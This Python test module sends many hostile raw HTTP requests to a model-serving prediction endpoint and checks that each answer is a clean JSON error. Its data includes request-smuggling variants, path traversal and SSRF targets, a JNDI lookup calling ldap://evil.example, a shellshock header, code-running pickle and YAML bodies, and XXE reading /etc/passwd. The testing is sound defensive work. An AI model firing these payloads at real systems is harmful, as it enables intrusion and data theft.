"""Hostile requests, as bytes: whatever a client sends, a server answers in JSON and goes on.

`hostile_requests` makes them for any model, so the same ones are sent to a toy and to a real
endpoint; `problems` says what is wrong with what came back.
"""

import contextlib
import json
import pickle
import random
from typing import NamedTuple

from raw_client import Broken, Client, take_all

HOST = b"Host: localhost\r\n"
JSON = b"Content-Type: application/json\r\n"


class Hostile(NamedTuple):
    """A request: its name, its bytes, and the statuses that its first response may have."""

    name: str
    raw: bytes
    statuses: frozenset = frozenset()
    is_head: bool = False


def hostile_requests(model="flights"):
    """Return all of them; none expects more of a model than that it is live."""
    path = f"/v1/models/{model}/predict".encode()
    return [
        *_methods(model),
        *_first_lines(path),
        *_hosts(path),
        *_fields(path),
        *_media(path),
        *_lengths(path),
        *_encodings(path),
        *_chunks(path),
        *_bodies(path),
        *_envelopes(path),
        *_paths(model),
        *_other_protocols(),
        *_many_at_once(path),
        *_cuts(path),
        *_flips(path),
    ]


def problems(port, hostile, *, timeout=20.0):
    """Send one and return what is wrong with the answer: an empty list is right."""
    with Client(port, timeout=timeout) as client:
        # Where it is refused before it is sent whole, the refusal can be read all the same.
        with contextlib.suppress(OSError):
            client.send(hostile.raw)
        client.end()
        try:
            data = client.rest()
            responses = take_all(data, is_head=hostile.is_head)
        except (OSError, Broken, ValueError, KeyError) as error:
            return [f"no whole response: {error!r:.200}"]
    found = [wrong for response in responses for wrong in _wrong(response, hostile)]
    statuses = [response.status for response in responses if response.status != 100]
    if hostile.statuses and (not statuses or statuses[0] not in hostile.statuses):
        found.append(f"{statuses[:3]} instead of {sorted(hostile.statuses)}")
    return found


def _wrong(response, hostile):
    """Say what is wrong with one response."""
    if response.status == 100:
        return []
    found = [f"status {response.status}"] if response.status >= 500 else []
    if hostile.is_head or response.fields["content-type"].startswith("text/plain"):
        return found
    try:
        body = json.loads(response.body)
    except ValueError:
        return [*found, f"no JSON: {response.body!r:.80}"]
    if response.status >= 400:
        error = body.get("error", {}) if isinstance(body, dict) else {}
        if {"code", "what", "expected", "do", "details"} != set(error):
            found.append(f"another shape of error: {response.body!r:.80}")
    return found


def post(path, body, *, fields=b"", media=JSON, length=None):
    """Return a request with a body."""
    size = len(body) if length is None else length
    size = size if isinstance(size, bytes) else b"%d" % size
    return (
        b"POST " + path + b" HTTP/1.1\r\n" + HOST + media + b"Content-Length: " + size + b"\r\n"
        + fields + b"\r\n" + body
    )  # fmt: skip


def chunked(path, raw, *, fields=b"Transfer-Encoding: chunked\r\n"):
    """Return a request whose body comes in chunks, as they are given."""
    return b"POST " + path + b" HTTP/1.1\r\n" + HOST + JSON + fields + b"\r\n" + raw


def get(target, *, fields=HOST, method=b"GET", version=b"HTTP/1.1"):
    """Return a request without a body."""
    return method + b" " + target + b" " + version + b"\r\n" + fields + b"\r\n"


GOOD = b'{"row": {"wind": 3}}'
REFUSED = frozenset({400})


# ---- kinds ----------------------------------------------------------------------------------------


def _methods(model):
    targets = {
        "predict": f"/v1/models/{model}/predict",
        "models": "/v1/models",
        "model": f"/v1/models/{model}",
        "livez": "/livez",
        "metrics": "/metrics",
        "events": "/v1/sources/bookings/events",
    }
    methods = ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "LOCK", "PURGE", "SEARCH")
    for label, target in targets.items():
        for method in methods:
            raw = get(target.encode(), method=method.encode())
            yield Hostile(f"method {method} {label}", raw, frozenset({405}))
    yield Hostile("GET of predict", get(targets["predict"].encode()), frozenset({405}))
    yield Hostile("POST of livez", post(b"/livez", GOOD), frozenset({405}))
    head = get(targets["predict"].encode(), method=b"HEAD")
    yield Hostile("HEAD of predict", head, frozenset({405}), is_head=True)
    head = get(b"/nowhere", method=b"HEAD")
    yield Hostile("HEAD of nothing", head, frozenset({404}), is_head=True)
    for method in (
        b"get",
        b"GETT",
        b"G E T",
        b"GET\x00",
        b"\xffGET",
        b"",
        b"POSTPOST",
        b"M-SEARCHX",
    ):
        yield Hostile(f"method {method!r}", get(b"/livez", method=method), REFUSED)
    yield Hostile("CONNECT", get(b"evil.example:443", method=b"CONNECT") + b"\x16\x03\x01")
    yield Hostile("CONNECT of a path", get(b"/livez", method=b"CONNECT") + GOOD)


def _first_lines(path):
    for version in (b"HTTP/0.9", b"HTTP/1.2", b"HTTP/2.0", b"HTTP/3.0", b"HTTP/1.1.1", b"HTTP/11"):
        yield Hostile(f"version {version!r}", get(b"/livez", version=version), REFUSED)
    for version in (
        b"HTTP/",
        b"http/1.1",
        b"HTTP/1.",
        b"HTTP/x.y",
        b"HTTP/1.1 ",
        b"ICE/1.0",
        b"RTSP/1.0",
    ):
        yield Hostile(f"version {version!r}", get(b"/livez", version=version))
    yield Hostile("no version", b"GET /livez\r\n" + HOST + b"\r\n", REFUSED)
    yield Hostile("HTTP/0.9 itself", b"GET /livez\r\n\r\n", REFUSED)
    yield Hostile("two spaces", b"GET  /livez HTTP/1.1\r\n" + HOST + b"\r\n")
    yield Hostile("tabs", b"GET\t/livez\tHTTP/1.1\r\n" + HOST + b"\r\n")
    yield Hostile("nothing between", b"GET HTTP/1.1\r\n" + HOST + b"\r\n")
    yield Hostile("line feeds alone", b"GET /livez HTTP/1.1\nHost: localhost\n\n")
    yield Hostile("carriage returns alone", b"GET /livez HTTP/1.1\rHost: localhost\r\r")
    yield Hostile("empty lines before", b"\r\n" * 40 + get(b"/livez"))
    yield Hostile("a space before", b" " + get(b"/livez"))
    for target in (
        b"*",
        b"livez",
        b"",
        b"?",
        b"#",
        b"/#x",
        b"//",
        b"///livez",
        b"/livez/",
        b"/ livez",
    ):
        yield Hostile(f"target {target!r}", get(target))
    for target in (
        *(b"http://evil.example/livez", b"https://evil.example:443/livez", b"http:///livez"),
        *(b"http://localhost@evil.example/livez", b"ftp://localhost/livez", b"file:///etc/passwd"),
        *(b"http://localhost", b"http://localhost?x", b"http://[::1/livez", b"http://:80/livez"),
        *(b"gopher://127.0.0.1:11211/_stats", b"http://localhost:99999/livez", b"http:livez"),
    ):
        yield Hostile(f"target {target!r}", get(target))
    yield Hostile("a target of 20 kB", get(b"/" + b"a" * 20_000), frozenset({404}))
    yield Hostile("a target of 100 kB", get(b"/" + b"a" * 100_000), frozenset({431}))
    yield Hostile("a query of 100 kB", get(b"/livez?" + b"a" * 100_000), frozenset({431}))
    yield Hostile("NUL in the target", get(b"/liv\x00ez"), REFUSED)
    yield Hostile("UTF-8 in the target", get("/modèles".encode()), REFUSED)
    yield Hostile("no UTF-8 in the target", get(b"/\xff\xfe"), REFUSED)
    yield Hostile("a header in the target", get(b"/livez%0d%0aX-Injected:%201"), frozenset({404}))
    yield Hostile("a query on predict", post(path + b"?x=%00&y[]=1&y=<script>", GOOD))


def _hosts(path):
    body = post(path, GOOD).replace(HOST, b"")
    yield Hostile("no host", body, REFUSED)
    yield Hostile("no host, HTTP/1.0", get(b"/livez", fields=b"", version=b"HTTP/1.0"), REFUSED)
    yield Hostile("two hosts", get(b"/livez", fields=HOST + HOST), REFUSED)
    yield Hostile(
        "two hosts, one evil", get(b"/livez", fields=HOST + b"Host: evil.example\r\n"), REFUSED
    )
    for host in (
        *(b"evil.example", b"localhost.evil.example", b"evil.example:8000", b"localhost:80:80"),
        *(b"localhost@evil.example", b"evil.example/localhost", b"localhost,evil.example"),
        *(
            b"0x7f.1",
            b"2130706433",
            b"127.1",
            b"127.0.0.1.nip.example",
            b"[::ffff:7f00:1]",
            b"[::2]",
        ),
        *(b"", b" ", b"localhost:http", b"localhost:-1", b"[::1", b"::1", b"[::1]x", b"*", b"null"),
        *(b"\xff\xfe", b"local\thost", b"169.254.169.254", b"xn--lcalhost-54a", b"localhost%00"),
    ):
        raw = get(b"/livez", fields=b"Host: " + host + b"\r\n")
        yield Hostile(f"host {host!r}", raw, frozenset({421, 400}))
    raw = get(b"/nowhere", fields=b"Host: evil.example\r\n")
    yield Hostile("an evil host is not told what there is", raw, frozenset({421}))


def _fields(path):
    line = b"X: " + b"a" * 1000 + b"\r\n"
    for name, fields, statuses in (
        ("a field of 40 kB", b"X: " + b"a" * 40_000 + b"\r\n", {431}),
        ("a field of 1 MB", b"X: " + b"a" * 1_000_000 + b"\r\n", {431}),
        ("a name of 40 kB", b"a" * 40_000 + b": x\r\n", {431}),
        ("101 fields", b"X: y\r\n" * 101, {431}),
        ("5,000 fields", b"X: y\r\n" * 5_000, {431}),
        ("30 fields of 1 kB", line * 30, {200, 400, 422}),
        ("40 fields of 1 kB", line * 40, {431}),
        ("a space before the colon", b"X : y\r\n", {400}),
        ("a folded field", b"X: y\r\n z\r\n", {400}),
        ("a folded field with a tab", b"X: y\r\n\tz\r\n", {400}),
        ("no colon", b"X\r\n", {400}),
        ("no name", b": y\r\n", {400}),
        ("NUL in a value", b"X: \x00\r\n", {400}),
        ("NUL in a name", b"X\x00: y\r\n", {400}),
        ("a control character in a value", b"X: \x1b[31m\r\n", {400}),
        ("a carriage return in a value", b"X: y\rz: 1\r\n", {400}),
        ("a line feed in a value", b"X: y\nz: 1\r\n", {400}),
        ("bytes above 127 in a value", b"X: \xff\xfe\xe9\r\n", {200, 400, 422}),
        ("bytes above 127 in a name", b"\xe9: x\r\n", {400}),
        ("an expectation", b"Expect: 200-ok\r\n", {417}),
        ("two expectations", b"Expect: 100-continue\r\nExpect: 100-continue\r\n", {400}),
        ("an empty authorization", b"Authorization: \r\n", {200, 400, 422}),
        ("an authorization of NULs", b"Authorization: Bearer \x00\r\n", {400}),
        (
            "an authorization of 20 kB",
            b"Authorization: Bearer " + b"a" * 20_000 + b"\r\n",
            {200, 400, 422},
        ),
        ("two authorizations", b"Authorization: Bearer a\r\nAuthorization: Bearer b\r\n", {400}),
        ("another method", b"X-HTTP-Method-Override: DELETE\r\n", {200, 400, 422}),
        (
            "another address",
            b"X-Forwarded-For: 127.0.0.1\r\nX-Forwarded-Host: evil\r\n",
            {200, 400, 422},
        ),
        (
            "another path",
            b"X-Original-URL: /metrics\r\nX-Rewrite-URL: /metrics\r\n",
            {200, 400, 422},
        ),
        ("shellshock", b"User-Agent: () { :;}; /bin/true\r\n", {200, 400, 422}),
        ("a lookup", b"User-Agent: ${jndi:ldap://evil.example/a}\r\n", {200, 400, 422}),
        ("a range", b"Range: bytes=0-,0-,0-,0-\r\n", {200, 400, 422}),
        ("an origin", b"Origin: http://evil.example\r\n", {200, 400, 422}),
        ("upgrade to websocket", b"Connection: Upgrade\r\nUpgrade: websocket\r\n", {200, 400, 422}),
        (
            "upgrade to h2c",
            b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n",
            {200, 400, 422},
        ),
        ("a connection of names", b"Connection: close, host, content-length\r\n", {200, 400, 422}),
    ):
        yield Hostile(f"field: {name}", post(path, GOOD, fields=fields), frozenset(statuses))
    preflight = HOST + b"Origin: http://evil.example\r\nAccess-Control-Request-Method: POST\r\n"
    yield Hostile("a preflight", get(path, method=b"OPTIONS", fields=preflight), frozenset({405}))
    yield Hostile("a header without an end", get(path)[:-2] + line * 200, frozenset({431}))


def _media(path):
    for kind in (
        *(b"text/plain", b"application/x-www-form-urlencoded", b"multipart/form-data; boundary=x"),
        *(b"multipart/mixed", b"application/xml", b"text/json", b"application/jsonx", b"*/*", b""),
        *(b"application/json; charset=utf-16", b"application/json;charset=latin-1", b"application"),
        *(b"application/octet-stream", b"application/x-python-pickle", b"application/x-ndjson"),
        *(
            b"application/json, text/plain",
            b"text/plain; application/json",
            b"application/json\x0b",
        ),
        *(b"application/yaml", b"application/vnd.apache.arrow.stream", b"image/png"),
    ):
        raw = post(path, GOOD, media=b"Content-Type: " + kind + b"\r\n")
        yield Hostile(f"media {kind!r}", raw, frozenset({415, 400}))
    yield Hostile("no media", post(path, GOOD, media=b""), frozenset({415}))
    two = JSON + b"Content-Type: text/plain\r\n"
    yield Hostile("two media", post(path, GOOD, media=two), REFUSED)
    for encoding in (b"gzip", b"br", b"deflate", b"identity", b"gzip, gzip"):
        raw = post(path, b"\x1f\x8b" + bytes(50), fields=b"Content-Encoding: " + encoding + b"\r\n")
        yield Hostile(f"content encoding {encoding!r}", raw, frozenset({415}))
    form = b'--x\r\nContent-Disposition: form-data; name="f"; filename="../../a"\r\n\r\n'
    raw = post(
        path,
        form + b"z" * 900_000 + b"\r\n--x--",
        media=b"Content-Type: multipart/form-data; boundary=x\r\n",
    )
    yield Hostile("a file of 0.9 MB", raw, frozenset({415}))


def _lengths(path):
    for length in (
        *(b"-1", b"+20", b"0x14", b"20, 20", b"2e1", b"20.0", b"", b"abc", b"\xb2\xb0", b"20 20"),
        *(b"99999999999999999999", b"18446744073709551616", b"-18446744073709551616", b"NaN"),
    ):
        yield Hostile(f"length {length!r}", post(path, GOOD, length=length), REFUSED)
    for length in (b"1048577", b"50000000", b"9223372036854775807", b"00000000000000000000020"):
        yield Hostile(f"length {length!r}", post(path, GOOD, length=length), frozenset({413}))
    twice = b"Content-Length: %d\r\n" % len(GOOD)
    yield Hostile("the length twice", post(path, GOOD, fields=twice), REFUSED)
    yield Hostile("two lengths", post(path, GOOD, fields=b"Content-Length: 3\r\n"), REFUSED)
    yield Hostile("a longer body than said", post(path, GOOD, length=5))
    yield Hostile("a shorter body than said", post(path, GOOD, length=500), REFUSED)
    yield Hostile(
        "no length", post(path, GOOD).replace(b"Content-Length: 20\r\n", b""), frozenset({411})
    )
    yield Hostile("a length and nothing", post(path, b"", length=1000), REFUSED)
    yield Hostile(
        "a body on GET", get(b"/livez", fields=HOST + b"Content-Length: 4\r\n") + b"evil", REFUSED
    )
    smuggled = get(b"/livez", fields=HOST + b"Content-Length: 36\r\n") + get(b"/metrics")
    yield Hostile("a request in the body of GET", smuggled, REFUSED)
    yield Hostile("a request behind a short body", post(path, GOOD, length=5) + get(b"/metrics"))
    yield Hostile("2 MB although 1 MB is the most", post(path, b" " * 2_000_000), frozenset({413}))


def _encodings(path):
    for encoding in (
        *(b"xchunked", b"chunked, identity", b"identity, chunked", b"chunked, chunked", b"gzip"),
        *(
            b"gzip, chunked",
            b"\x0bchunked",
            b"chunked\x0b",
            b'"chunked"',
            b"chunked;q=1",
            b"",
            b"identity",
        ),
        *(b"chun ked", b"[chunked]", b"chunked\x00", b"\xe4chunked", b"deflate, gzip", b"compress"),
    ):
        fields = b"Transfer-Encoding: " + encoding + b"\r\n"
        raw = chunked(path, b"14\r\n" + GOOD + b"\r\n0\r\n\r\n", fields=fields)
        yield Hostile(f"encoding {encoding!r}", raw, frozenset({400, 411}))
    for name, fields in (
        ("length, then chunks", b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n"),
        ("chunks, then length", b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n"),
        ("chunks twice", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n"),
        ("chunks, then identity", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"),
        ("chunks with a space", b"Transfer-Encoding : chunked\r\nContent-Length: 4\r\n"),
        ("chunks on a folded line", b"Transfer-Encoding:\r\n chunked\r\nContent-Length: 4\r\n"),
        ("chunks behind a tab", b"Transfer-Encoding:\tchunked\r\nContent-Length: 4\r\n"),
        ("chunks in a hidden line", b"X: x\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n"),
        ("chunks in capitals", b"TRANSFER-ENCODING: CHUNKED\r\ncontent-length: 4\r\n"),
        ("chunks with an underscore", b"Transfer_Encoding: chunked\r\n"),
    ):
        smuggled = b"14\r\n" + GOOD + b"\r\n0\r\n\r\n" + get(b"/metrics")
        raw = chunked(path, smuggled, fields=fields)
        yield Hostile(f"smuggling: {name}", raw, frozenset({400, 411}))
    old = chunked(path, b"14\r\n" + GOOD + b"\r\n0\r\n\r\n").replace(b"HTTP/1.1", b"HTTP/1.0")
    yield Hostile("chunks in HTTP/1.0", old)
    raw = get(b"/livez", fields=HOST + b"Transfer-Encoding: chunked\r\n") + b"0\r\n\r\n"
    yield Hostile("chunks on GET", raw, REFUSED)


def _chunks(path):
    for name, raw, statuses in (
        ("no number", b"zz\r\n" + GOOD + b"\r\n0\r\n\r\n", {400}),
        ("a negative size", b"-1\r\n" + GOOD + b"\r\n0\r\n\r\n", {400}),
        ("a size with a sign", b"+14\r\n" + GOOD + b"\r\n0\r\n\r\n", {400}),
        ("a size with 0x", b"0x14\r\n" + GOOD + b"\r\n0\r\n\r\n", {400}),
        ("a huge size", b"ffffffffffffffff0\r\n" + GOOD, {400}),
        ("a size that is never sent", b"fffffff\r\n" + GOOD, {400}),
        ("an empty size", b"\r\n" + GOOD + b"\r\n0\r\n\r\n", {400}),
        ("a space before the size", b" 14\r\n" + GOOD + b"\r\n0\r\n\r\n", {400}),
        ("line feeds alone", b"14\n" + GOOD + b"\n0\n\n", {400}),
        ("too much in a chunk", b"5\r\n" + GOOD + b"\r\n0\r\n\r\n", {400}),
        ("too little in a chunk", b"20\r\n" + GOOD + b"\r\n0\r\n\r\n", {400}),
        ("no last chunk", b"14\r\n" + GOOD + b"\r\n", {400}),
        ("a last chunk without an end", b"14\r\n" + GOOD + b"\r\n0\r\n", {400}),
        (
            "an extension of 100 kB",
            b"14;" + b"a" * 100_000 + b"\r\n" + GOOD + b"\r\n0\r\n\r\n",
            None,
        ),
        ("a quoted extension", b'14;a="\r\n' + GOOD + b"\r\n0\r\n\r\n", None),
        ("NUL in an extension", b"14;\x00\r\n" + GOOD + b"\r\n0\r\n\r\n", {400}),
        ("1,000 trailers", b"14\r\n" + GOOD + b"\r\n0\r\n" + b"X: y\r\n" * 1000 + b"\r\n", {431}),
        ("a trailer with a host", b"14\r\n" + GOOD + b"\r\n0\r\nHost: evil\r\n\r\n", None),
        ("a trailer with a length", b"14\r\n" + GOOD + b"\r\n0\r\nContent-Length: 3\r\n\r\n", None),
        ("1 byte at a time", b"".join(b"1\r\n%c\r\n" % byte for byte in GOOD) + b"0\r\n\r\n", None),
        ("200,000 chunks of 1 byte", b"1\r\n \r\n" * 200_000 + b"0\r\n\r\n", {400, 422}),
        ("2 MB in chunks", (b"10000\r\n" + b" " * 65536 + b"\r\n") * 32 + b"0\r\n\r\n", {413}),
        ("nothing", b"0\r\n\r\n", {400, 422}),
    ):
        yield Hostile(f"chunks: {name}", chunked(path, raw), frozenset(statuses or ()))


def _bodies(path):
    client_error = frozenset({400, 409, 413, 422})
    deep = 100_000
    for name, body in (
        *((repr(text), text) for text in (b"", b" ", b"null", b"true", b"0", b'""', b"[]", b"{}")),
        *(
            (repr(text), text)
            for text in (b"{", b"}", b"[", b'"', b"{]", b'{"row"', b'{"row":', b"nul")
        ),
        *(
            (repr(text), text)
            for text in (b"NaN", b"Infinity", b"-Infinity", b"-", b"1.", b".5", b"01")
        ),
        *(
            (repr(text), text)
            for text in (b"'row'", b'{"row": {},}', b"{row: {}}", b"// x\n{}", b"/**/{}")
        ),
        ("two values", GOOD + GOOD),
        ("nested lists", b"[" * deep + b"]" * deep),
        ("nested lists without an end", b"[" * deep),
        ("nested objects", b'{"row":' * deep + b"1" + b"}" * deep),
        (
            "a row of nested objects",
            b'{"row":{"wind":' + b'{"a":' * deep + b"1" + b"}" * deep + b"}}",
        ),
        ("nested rows", b'{"rows":' + b"[" * deep + b"]" * deep + b"}"),
        ("UTF-16", '{"row": {}}'.encode("utf-16")),
        ("UTF-32", '{"row": {}}'.encode("utf-32")),
        ("a byte order mark", b"\xef\xbb\xbf" + b'{"row": 1}'),
        ("no UTF-8", b'{"row": {"\xff\xfe": 1}}'),
        ("overlong UTF-8", b'{"row": {"\xc0\xae": 1}}'),
        ("a surrogate in UTF-8", b'{"row": {"\xed\xa0\x80": 1}}'),
        ("NUL", b'{"row": {"\x00": 1}}'),
        ("NUL all over", bytes(1000)),
        ("newline in a text", b'{"row": {"a\nb": 1}}'),
        ("a bad escape", rb'{"row": {"\x": 1}}'),
        ("half an escape", rb'{"row": {"\u12": 1}}'),
        *((f"pickle {n}", pickle.dumps({"row": {"wind": 1}}, protocol=n)) for n in range(6)),
        ("a pickle that runs", b"cposix\nsystem\n(S'touch /tmp/interplane-was-here'\ntR."),
        ("YAML that runs", b"!!python/object/apply:os.system ['true']"),
        ("XML that grows", b'<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>'),
        (
            "XML that reads files",
            b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        ),
        ("gzip", b"\x1f\x8b\x08\x00" + bytes(100)),
        ("PNG", b"\x89PNG\r\n\x1a\n" + bytes(100)),
        ("Parquet", b"PAR1" + bytes(100) + b"PAR1"),
        ("a form", b"row=1&wind=3"),
        ("HTML", b"<script>alert(1)</script>"),
        ("SQL", b"'; DROP TABLE rows; --"),
        ("0.9 MB of spaces", b" " * 900_000),
        ("0.9 MB of brackets", b"[" * 900_000),
        ("0.9 MB of a text", b'"' + b"a" * 900_000 + b'"'),
        ("0.9 MB of digits", b"1" * 900_000),
        ("0.9 MB of escapes", b'"' + rb"\u0000" * 150_000 + b'"'),
        ("0.9 MB of commas", b"[" + b"," * 900_000),
    ):
        yield Hostile(f"body: {name}", post(path, body), client_error)


def _envelopes(path):
    """Bodies that are JSON: the policy of the row path decides, and never with a 5xx."""
    values = (
        *(
            b"null",
            b"true",
            b'""',
            b'"3"',
            b"[]",
            b"[1]",
            b"{}",
            b"0",
            b"-0",
            b"-0.0",
            b"1e400",
            b"-1e400",
        ),
        *(
            b"1e-400",
            b"NaN",
            b"Infinity",
            b"-Infinity",
            b"9007199254740993",
            b"12345678901234567890",
        ),
        *(b"9" * 400, b"9" * 5000, b"0." + b"9" * 5000, b"1e999999999", b"1E+5", b"3.0"),
        *(
            rb'"\ud800"',
            rb'"\udc00\ud800"',
            rb'"\u0000"',
            rb'"\ud83d\ude00"',
            b'"' + b"x" * 100_000 + b'"',
        ),
        *(
            '"\u202eé\u2028"'.encode(),
            b'"2013-02-30"',
            b'"9999-12-31T23:59:60Z"',
            b'"now"',
            b'"../../etc"',
        ),
    )
    for value in values:
        raw = post(path, b'{"row": {"wind": ' + value + b"}}")
        yield Hostile(f"value {value[:30]!r} of {len(value)}", raw, frozenset({200, 400, 422}))
    for name, body in (
        ("row and rows", b'{"row": {}, "rows": []}'),
        ("no rows", b'{"rows": []}'),
        ("rows of nothing", b'{"rows": [null, 1, "x", [], {}]}'),
        ("20,000 rows", b'{"rows": [' + b",".join([b"{}"] * 20_000) + b"]}"),
        ("rows as an object", b'{"rows": {"0": {}}}'),
        ("the row twice", b'{"row": {"wind": 1}, "row": {"wind": 2}}'),
        ("a column twice", b'{"row": {"wind": 1, "wind": 2}}'),
        ("another name", b'{"row": {}, "__class__": "x"}'),
        ("names of Python", b'{"row": {"__proto__": 1, "__init__": {"__globals__": 1}}}'),
        ("an empty name", b'{"row": {"": 1}}'),
        ("a long name", b'{"row": {"' + b"n" * 200_000 + b'": 1}}'),
        ("50,000 names", b'{"row": {' + b",".join(b'"c%d":1' % n for n in range(50_000)) + b"}}"),
        ("no name is wind", rb'{"row": {"w\u0069nd": 1, "\ud800": 2}}'),
        ("an id of null", b'{"row": {"wind": 1}, "id": null}'),
        ("an id of nothing", b'{"row": {"wind": 1}, "id": ""}'),
        ("an id of 1 MB", b'{"row": {"wind": 1}, "id": "' + b"i" * 1_000_000 + b'"}'),
        ("an id that is a path", b'{"row": {"wind": 1}, "id": "../../../etc/passwd"}'),
        ("an id of control characters", rb'{"row": {"wind": 1}, "id": "\u001b[31m\u0000\n"}'),
        ("an id of surrogates", rb'{"row": {"wind": 1}, "id": "\ud800"}'),
        ("an id that is a number", b'{"row": {"wind": 1}, "id": 7}'),
        ("an id that is a list", b'{"row": {"wind": 1}, "id": [[]]}'),
    ):
        yield Hostile(f"envelope: {name}", post(path, body), frozenset({200, 400, 413, 422}))


def _paths(model):
    name = model.encode()
    for target in (
        *(
            b"/v1/models/../../etc/passwd/predict",
            b"/v1/models/../predict",
            b"/v1/models/./predict",
        ),
        *(
            b"/v1/models/%2e%2e/predict",
            b"/v1/models/%2e%2e%2f%2e%2e%2fetc/predict",
            b"/v1/models//predict",
        ),
        *(
            b"/v1/models/..%5c..%5cwin.ini/predict",
            b"/v1/models/..;/predict",
            b"/v1/models/%00/predict",
        ),
        *(b"/v1/models/%c0%ae%c0%ae/predict", b"/v1/models/%ff/predict", b"/v1/models/%/predict"),
        *(
            b"/v1/models/%zz/predict",
            b"/v1/models/%252e%252e/predict",
            b"/v1/models/a%0d%0ab/predict",
        ),
        *(b"/v1/models/" + name + b"%00/predict", b"/v1/models/" + name + b"/predict/"),
        *(
            b"/v1/models/" + name + b"/predict%20",
            b"/v1/models/" + name + b"/../" + name + b"/predict",
        ),
        *(
            b"/v1/models/" + name + b"@1/predict",
            b"/V1/MODELS/" + name + b"/PREDICT",
            b"/v1//models",
        ),
        *(
            b"/v1/models/" + name.upper() + b"/predict",
            b"/v1/models/*/predict",
            b"/v1/models/{name}/predict",
        ),
        *(
            b"/v1/models/" + b"n" * 5000 + b"/predict",
            b"/v1/models/con/predict",
            b"/v1/models/nul/predict",
        ),
        *(
            b"/v1/models/%F0%9F%92%A9/predict",
            b"/v1/models/%ED%A0%80/predict",
            b"/v2/models/x/infer",
        ),
        *(
            b"/v1/models/__class__/predict",
            b"/v1/models/'%20OR%201=1/predict",
            b"/v1/models/$(id)/predict",
        ),
    ):
        yield Hostile(f"path {target[:60]!r}", post(target, GOOD), frozenset({400, 404}))
    for target in (
        *(b"/etc/passwd", b"/.git/config", b"/.env", b"/%2e%2e/%2e%2e/etc/passwd", b"/index.php"),
        *(b"/admin", b"/metrics/", b"/metrics%00", b"/..", b"/.", b"/static/..%2f..%2fetc/passwd"),
        *(b"/api/2.0/mlflow/experiments/list", b"/debug/pprof", b"/server-status", b"/docs", b"/"),
    ):
        yield Hostile(f"path {target!r}", get(target), frozenset({404}))


def _other_protocols():
    draw = random.Random(20_130_101)
    for name, raw in (
        ("TLS", bytes.fromhex("16030100c8010000c40303") + bytes(190)),
        (
            "TLS in SSL 2's form",
            bytes.fromhex("802e0100020015000000100100800200800300800400800500800600"),
        ),
        ("HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)),
        ("SSH", b"SSH-2.0-OpenSSH_9.9\r\n"),
        ("SMTP", b"EHLO evil.example\r\nMAIL FROM:<a@evil.example>\r\n"),
        ("FTP", b"USER anonymous\r\nPASS x\r\n"),
        ("Redis", b"*1\r\n$7\r\nCOMMAND\r\n"),
        ("memcached", b"stats\r\nget x\r\n"),
        ("PostgreSQL", bytes.fromhex("0000000804d2162f")),
        ("SMB", bytes.fromhex("00000085ff534d4272")),
        ("RDP", bytes.fromhex("0300002c27e00000000000")),
        ("PROXY", b"PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n" + get(b"/livez")),
        ("PROXY 2", bytes.fromhex("0d0a0d0a000d0a515549540a") + get(b"/livez")),
        ("gRPC", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x12\x04\x00\x00\x00\x00\x00"),
        ("a response", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
        ("JSON alone", GOOD),
        ("empty lines", b"\r\n" * 10_000),
        ("NUL", bytes(10_000)),
        ("a line without an end", b"A" * 200_000),
        ("nothing", b""),
    ):
        yield Hostile(f"protocol {name}", raw)
    for number in range(20):
        yield Hostile(f"noise {number}", draw.randbytes(draw.choice([1, 10, 300, 5000])))


def _many_at_once(path):
    good = post(path, GOOD)
    first = frozenset({200, 400, 422})
    yield Hostile("50 at once", good * 50, first)
    yield Hostile("500 at once", good * 500, first)
    yield Hostile("1,000 small ones at once", get(b"/livez") * 1000, first)
    yield Hostile("a good one, then noise", good + b"\x00\xff\r\n\r\n", first)
    yield Hostile("a good one, then half of one", good + good[:40], first)
    yield Hostile("a good one, then one too long", good + post(path, b"", length=2_000_000), first)
    yield Hostile("a good one, then evil host", good + good.replace(b"localhost", b"evil"), first)
    closing = post(path, GOOD, fields=b"Connection: close\r\n")
    yield Hostile("one that closes, then another", closing + good, first)
    upgrade = b"Connection: Upgrade\r\nUpgrade: h2c\r\n"
    yield Hostile("20 that would upgrade", post(path, GOOD, fields=upgrade) * 20, first)
    yield Hostile(
        "20 that would upgrade, no body", get(b"/livez", fields=HOST + upgrade) * 20, first
    )
    expecting = post(path, GOOD, fields=b"Expect: 100-continue\r\n")
    yield Hostile("20 that wait for a word", expecting * 20)
    yield Hostile("events and predictions", (post(b"/v1/sources/x/events", b"[]") + good) * 10)
    yield Hostile("refused, then 5 MB", get(b"/nowhere") + b"x" * 5_000_000, frozenset({404}))


def _cuts(path):
    whole = post(path, GOOD)
    for end in range(1, len(whole), max(len(whole) // 30, 1)):
        yield Hostile(f"cut at {end}", whole[:end], REFUSED)


def _flips(path):
    draw = random.Random(20_131_231)
    whole = post(path, GOOD)
    for number in range(80):
        raw = bytearray(whole)
        for _ in range(draw.choice([1, 1, 2, 5])):
            raw[draw.randrange(len(raw))] = draw.choice(
                [0, 9, 10, 13, 32, 58, 127, 255, draw.randrange(256)]
            )
        yield Hostile(f"flip {number}", bytes(raw))
